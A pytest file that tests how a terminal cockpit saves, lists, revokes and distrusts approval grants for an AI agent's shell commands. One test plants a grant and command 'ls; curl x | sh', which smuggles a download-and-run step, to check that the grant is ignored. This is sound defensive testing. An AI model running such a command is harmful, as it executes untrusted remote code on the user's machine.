"""The live cockpit's side of saved grants: `a` offers the scope (s/p/u, each saying what it
would allow), `g` lists every grant in force and `delete` revokes, and the side panel marks saved
grants apart from session ones. Snapshots of the scope step and the grants screen at 160x48 and
80x24 (update with `pytest tests/cockpit/live/test_grants_app.py --snapshot-update`)."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from support.event_loop import run
from support.live_app import gated, pending, settle, turn
from support.steps import StepRunner

from cockpit.live import CockpitApp
from cockpit.screens import GrantsScreen
from engine_adapter import ApprovalGrant, Session, SessionState, TaskState
from engine_adapter.grants import GrantStore
from engine_adapter.grants.grant_file import GrantFile, update_grant_file
from engine_adapter.grants.records import DenyRule, SavedGrant
from engine_adapter.journal import JsonlEventJournal, read_journal

WHEN = datetime(2025, 6, 1, 10, 0, tzinfo=UTC)


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    """A home folder of its own: the project `~/src/app`, grants in `~/.config/cockpit/grants`,
    times in UTC (the pictures do not depend on the machine)."""
    home = tmp_path / "home"
    (home / "src" / "app").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("COCKPIT_HOME", str(tmp_path / "cockpit"))
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    return home


def _store(home: Path, project: Path | None = None) -> GrantStore:
    return GrantStore(home / ".config" / "cockpit" / "grants",
                      project=project or home / "src" / "app",
                      workspace=home / "src" / "app")


def _seed(store: GrantStore) -> None:
    """A user deny rule, a project grant used once and a user grant, with fixed ids and times."""
    user, project = store.path("user"), store.path("project")
    assert user is not None and project is not None
    update_grant_file(user, "user", None, lambda f: _put(f, [
        DenyRule(id="d-0000a11f", scope="user", tool="shell", prefix="git push",
                 created=WHEN, note="never from an agent"),
        SavedGrant(id="g-00000b0b", scope="user", tool="shell", prefix="npm test",
                   max_tier=3, created=WHEN)]))
    update_grant_file(project, "project", store.project, lambda f: _put(f, [
        SavedGrant(id="g-0000c0de", scope="project", tool="shell", prefix="git log",
                   max_tier=3, created=WHEN, last_used=WHEN, note="from the approval bar")]))
    store.reload()


def _put(found: GrantFile, entries: list[SavedGrant | DenyRule]) -> None:
    for entry in entries:
        (found.grants if isinstance(entry, SavedGrant) else found.denies)[entry.id] = entry


def _app(home: Path, *steps, store: GrantStore | None = None, journal: Path | None = None,
         grants: list[ApprovalGrant] | None = None) -> CockpitApp:
    store = store if store is not None else _store(home)
    state = SessionState(grants=grants or [])
    session = Session(StepRunner(*steps), TaskState(task="tidy the repo",
                                                    cwd=str(home / "src" / "app")),
                      grants=state.grants, session_id="s1", grant_store=store,
                      journal=JsonlEventJournal(journal) if journal else None)
    return CockpitApp(session, theme="cockpit-dark", remember_theme=False, clock=None,
                      arm_seconds=0.0)


def _keys_text(app: CockpitApp) -> str:
    # The scope step's lines sit above the keys line (in the bar's scrolling body).
    return "\n".join(str(app.query_one(part).render())
                     for part in ("#approval-always", "#approval-keys"))


def test_a_offers_the_scopes_and_p_saves_a_project_grant(home, tmp_path) -> None:
    journal = tmp_path / "run.jsonl"
    app = _app(home, turn(1), gated("c1", "shell", {"command": "git status"}),
               gated("c2", "shell", {"command": "git status --short"}), journal=journal)

    async def main() -> None:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.press("a")
            await settle(pilot, lambda: "where?" in _keys_text(app))
            text = _keys_text(app)
            assert "[s] always allow shell `git status …` in this session" in text
            assert "[p] always allow shell `git status …` in ~/src/app" in text
            assert "[u] always allow shell `git status …` in every project" in text
            assert pending(app) == ["c1"]  # nothing decided yet
            await pilot.press("p")
            await settle(pilot, lambda: app.session.done)
            panel = str(app.query_one("#grants").render())
            assert "★ shell `git status …` ≤T3 project" in panel

    run(main())
    events = {e.approval_id: e for e in read_journal(journal) if e.type == "approval_resolved"}
    assert (events["c1"].via, events["c1"].remember, events["c1"].scope) == ("human", True,
                                                                           "project")
    assert (events["c2"].via, events["c2"].scope) == ("grant", "project")
    assert events["c2"].grant_id == events["c1"].grant_id
    (saved,) = _store(home).grants()
    assert saved.id == events["c1"].grant_id and saved.prefix == "git status"


def test_a_twice_is_this_session_and_escape_goes_back(home) -> None:
    app = _app(home, turn(1), gated("c1", "shell", {"command": "ls -la"}),
               gated("c2", "shell", {"command": "ls"}))

    async def main() -> None:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.press("a", "escape")
            await settle(pilot, lambda: "where?" not in _keys_text(app))
            assert pending(app) == ["c1"] and not app.session.cancel_token.cancelled
            await pilot.press("p")  # not in the scope step: p does nothing
            assert pending(app) == ["c1"]
            await pilot.press("a", "a")
            await settle(pilot, lambda: app.session.done)
            assert [g.prefix for g in app.session.grants] == ["ls"]
            assert _store(home).grants() == []
            assert app.view.tool_calls["c2"].approval.via == "grant"

    run(main())


def test_a_scope_that_is_not_available_says_why_and_does_nothing(home, tmp_path) -> None:
    link = tmp_path / "link"
    link.symlink_to(home / "src" / "app")
    store = _store(home, project=link)
    app = _app(home, turn(1), gated("c1", "shell", {"command": "git status"}), store=store)

    async def main() -> None:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.press("a")
            await settle(pilot, lambda: "where?" in _keys_text(app))
            assert "[p] in this project: unavailable — no project grants:" in _keys_text(app)
            await pilot.press("p")
            await pilot.pause()
            assert pending(app) == ["c1"]  # p is dimmed: nothing saved, nothing answered
            await pilot.press("u")
            await settle(pilot, lambda: app.session.done)
            assert [g.prefix for g in store.grants()] == ["git status"]

    run(main())


def test_g_lists_every_grant_and_delete_revokes(home) -> None:
    store = _store(home)
    _seed(store)
    app = _app(home, turn(1), gated("c1", "shell", {"command": "git diff"}), store=store,
               grants=[ApprovalGrant(tool="shell", prefix="ls", tier=3)])

    async def main() -> None:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            panel = str(app.query_one("#grants").render())
            assert "✗ shell `git push …` denied user" in panel
            assert "✓ shell `ls …` ≤T3" in panel and "★ shell `git log …` ≤T3 project" in panel
            await pilot.press("g")
            await settle(pilot, lambda: isinstance(app.screen, GrantsScreen))
            screen = app.screen
            assert [e.key for e in screen.entries] == ["d-0000a11f", "session-1", "g-0000c0de",
                                                       "g-00000b0b"]
            await pilot.press("down", "down")  # the project grant
            await pilot.press("delete")
            await settle(pilot, lambda: len(screen.entries) == 3)
            assert [g.id for g in _store(home).grants()] == ["g-00000b0b"]
            await pilot.press("up")  # the session grant
            await pilot.press("delete")
            await settle(pilot, lambda: len(screen.entries) == 2)
            assert app.session.grants == []
            await pilot.press("escape")
            await settle(pilot, lambda: not isinstance(app.screen, GrantsScreen))
            panel = str(app.query_one("#grants").render())
            assert "git log" not in panel and "`ls …`" not in panel
            await pilot.press("n", "enter")  # n asks for a reason; enter denies
            await settle(pilot, lambda: app.session.done)

    run(main())


def test_delete_asks_before_a_deny_rule_goes(home) -> None:
    """Issue 26 §4: removing a deny rule lets through what it stopped, so one `delete` only
    asks; a second on the same line removes it; moving away, or leaving, keeps it."""
    store = _store(home)
    _seed(store)
    app = _app(home, turn(1), gated("c1", "shell", {"command": "git diff"}), store=store)

    def denies() -> list[str]:
        return [d.id for d in _store(home).denies()]

    async def main() -> None:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.press("g")
            await settle(pilot, lambda: isinstance(app.screen, GrantsScreen))
            screen = app.screen
            assert screen.entries[0].key == "d-0000a11f"  # the cursor is on the deny rule
            confirm = screen.query_one("#grants-confirm")
            assert not confirm.display
            await pilot.press("delete")
            await pilot.pause()
            assert denies() == ["d-0000a11f"] and len(screen.entries) == 3
            assert confirm.display and "Remove the user deny rule shell `git push …`?" in str(
                confirm.render()) and "del again removes it" in str(confirm.render())
            await pilot.press("down", "up")  # another line: the question is gone
            await pilot.pause()
            assert not confirm.display and screen.confirming is None
            await pilot.press("delete")  # asks again, removes nothing
            await pilot.pause()
            assert denies() == ["d-0000a11f"] and confirm.display
            await pilot.press("escape")  # leaving keeps it
            await settle(pilot, lambda: not isinstance(app.screen, GrantsScreen))
            assert denies() == ["d-0000a11f"]
            await pilot.press("g")
            await settle(pilot, lambda: isinstance(app.screen, GrantsScreen))
            screen = app.screen
            await pilot.press("delete", "delete")
            await settle(pilot, lambda: len(screen.entries) == 2)
            assert denies() == []
            assert not screen.query_one("#grants-confirm").display
            await pilot.press("delete")  # now on a grant: it goes at once
            await settle(pilot, lambda: len(screen.entries) == 1)
            await pilot.press("escape")
            await settle(pilot, lambda: not isinstance(app.screen, GrantsScreen))
            await pilot.press("n", "enter")
            await settle(pilot, lambda: app.session.done)

    run(main())


def test_approval_keys_do_nothing_while_the_grants_screen_hides_the_request(home) -> None:
    """The grants screen covers the approval bar: y, n, a and the scope keys must not answer
    a call the human cannot see (they work again once the screen is closed)."""
    app = _app(home, turn(1), gated("c1", "shell", {"command": "git status"}))

    async def main() -> None:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.press("a")  # the scope step is open underneath
            await settle(pilot, lambda: "where?" in _keys_text(app))
            await pilot.press("g")
            await settle(pilot, lambda: isinstance(app.screen, GrantsScreen))
            for key in ("y", "n", "a", "s", "p", "u"):
                assert not app.check_action(
                    {"y": "approve", "n": "deny", "a": "approve_always"}.get(key, "grant_scope"),
                    ("session",))
                await pilot.press(key)
            await pilot.pause()
            assert pending(app) == ["c1"] and _store(home).grants() == []
            assert not [e for e in app.session.history if e.type == "approval_resolved"]
            await pilot.press("escape")
            await settle(pilot, lambda: not isinstance(app.screen, GrantsScreen))
            await pilot.press("n", "enter")  # n asks for a reason; enter denies
            await settle(pilot, lambda: app.session.done)

    run(main())
    (resolved,) = [e for e in app.session.history if e.type == "approval_resolved"]
    assert (resolved.allowed, resolved.via) == (False, "human")


def test_a_grant_that_could_not_be_saved_says_so(home) -> None:
    """`a` then `u` with a broken user file (never overwritten): the call is allowed, the grant
    kept for this session, and the human is told why it was not saved."""
    store = _store(home)
    user = store.path("user")
    assert user is not None
    user.parent.mkdir(parents=True)
    user.write_text("[grant.g-1\n")
    user.chmod(0o600)
    store.reload()
    app = _app(home, turn(1), gated("c1", "shell", {"command": "git status"}), store=store)

    async def main() -> None:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.press("a", "u")
            await settle(pilot, lambda: app.session.done)
            await settle(pilot, lambda: any("kept for this session only" in n.message
                                            for n in app._notifications))
            (said,) = [n.message for n in app._notifications if "kept for" in n.message]
            assert "user.toml: line 1" in said and "fix or remove it first" in said

    run(main())
    (resolved,) = [e for e in app.session.history if e.type == "approval_resolved"]
    assert (resolved.allowed, resolved.remember, resolved.scope) == (True, True, "session")
    assert user.read_text() == "[grant.g-1\n"


def test_the_grants_screen_says_what_was_not_trusted(home) -> None:
    store = _store(home)
    user = store.path("user")
    assert user is not None
    user.parent.mkdir(parents=True)
    user.write_text('version = 1\n\n[grant.g-1]\ntool = "shell"\nprefix = "ls; curl x | sh"\n'
                    'max_tier = 3\ncreated = 2025-06-01T10:00:00Z\n')
    user.chmod(0o600)
    store.reload()
    app = _app(home, turn(1), gated("c1", "shell", {"command": "ls; curl x | sh"}), store=store)

    async def main() -> None:
        async with app.run_test(size=(160, 48)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])  # asked: the grant is ignored
            said = [n.message for n in app._notifications]
            assert any(m.startswith("saved grants: ") and "line 3: grant g-1" in m
                       and "ignored" in m and "g shows grants" in m for m in said), said
            await pilot.press("g")
            await settle(pilot, lambda: isinstance(app.screen, GrantsScreen))
            notes = str(app.screen.query_one("#grants-notes").render())
            assert "line 3: grant g-1" in notes and "ignored" in notes
            await pilot.press("escape", "n", "enter")
            await settle(pilot, lambda: app.session.done)

    run(main())


# -- snapshots ------------------------------------------------------------------------------------

def _scope_step(app: CockpitApp):
    async def run_before(pilot) -> None:
        await settle(pilot, lambda: pending(app) == ["c1"])
        await pilot.press("a")
        await settle(pilot, lambda: "where?" in _keys_text(app))
    return run_before


def _grants_screen(app: CockpitApp):
    async def run_before(pilot) -> None:
        await settle(pilot, lambda: pending(app) == ["c1"])
        await pilot.press("g")
        await settle(pilot, lambda: isinstance(app.screen, GrantsScreen))
        await pilot.pause()
    return run_before


@pytest.mark.parametrize("size", [(160, 48), (80, 24)])
def test_snapshot_scope_step(home, snap_compare, size) -> None:
    store = _store(home)
    _seed(store)
    app = _app(home, turn(1, "Checking the working tree."),
               gated("c1", "shell", {"command": "git status --short"}), store=store)
    assert snap_compare(app, terminal_size=size, run_before=_scope_step(app))


@pytest.mark.parametrize("size", [(160, 48), (80, 24)])
def test_snapshot_grants_screen(home, snap_compare, size) -> None:
    store = _store(home)
    _seed(store)
    app = _app(home, turn(1), gated("c1", "shell", {"command": "git status"}), store=store,
               grants=[ApprovalGrant(tool="shell", prefix="ls", tier=3)])
    assert snap_compare(app, terminal_size=size, run_before=_grants_screen(app))



@pytest.mark.parametrize("size", [(160, 48), (80, 24)])
def test_snapshot_deny_rule_question(home, snap_compare, size) -> None:
    store = _store(home)
    _seed(store)
    app = _app(home, turn(1), gated("c1", "shell", {"command": "git status"}), store=store)
    grants_screen = _grants_screen(app)

    async def run_before(pilot) -> None:
        await grants_screen(pilot)
        await pilot.press("delete")
        await settle(pilot, lambda: app.screen.confirming == "d-0000a11f")

    assert snap_compare(app, terminal_size=size, run_before=run_before)
